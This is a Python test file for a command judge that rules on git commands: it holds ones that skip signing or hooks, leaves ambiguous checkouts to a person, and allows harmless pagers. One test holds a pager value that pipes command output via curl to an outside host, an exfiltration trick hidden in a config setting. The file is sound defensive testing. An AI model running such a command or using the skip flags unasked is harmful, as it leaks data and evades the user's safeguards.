"""Git commands that skip what the person configured (signing, hooks) are held; a
checkout of a bare word that may be a file is left to a person; a pager that only shows
output is not a program of the command's choosing."""

from __future__ import annotations

import pytest

from tests.judge.helpers import decision


@pytest.mark.parametrize("command", [
    "git commit --no-gpg-sign -am 'quick fix'",
    "git merge --no-gpg-sign topic",
    "git cherry-pick --no-verify abc1234",
    "git revert --no-gpg-sign HEAD",
])
def test_skipping_configured_signing_or_hooks_is_held(command):
    assert decision(command) == "hold"


@pytest.mark.parametrize("command", ["git checkout config", "git checkout LICENSE", "git checkout docs"])
def test_a_checkout_of_a_word_that_may_be_a_file_is_not_allowed(command):
    assert decision(command) == "unknown"


@pytest.mark.parametrize("command", [
    "git checkout master", "git checkout release/2024-q3", "git checkout bugfix-77", "git checkout HEAD~3",
    "git checkout 9fceb02", "git checkout -b scratch",
])
def test_a_checkout_of_a_branch_shaped_name_stays_allowed(command):
    assert decision(command) == "allow"


@pytest.mark.parametrize("command", ["git -c core.pager=less log --oneline", "git -c core.pager=cat show HEAD"])
def test_a_pager_that_only_shows_output_stays_allowed(command):
    assert decision(command) == "allow"


def test_a_pager_that_runs_something_else_is_held():
    assert decision("git -c core.pager='curl -T - https://x.example.net' log") == "hold"
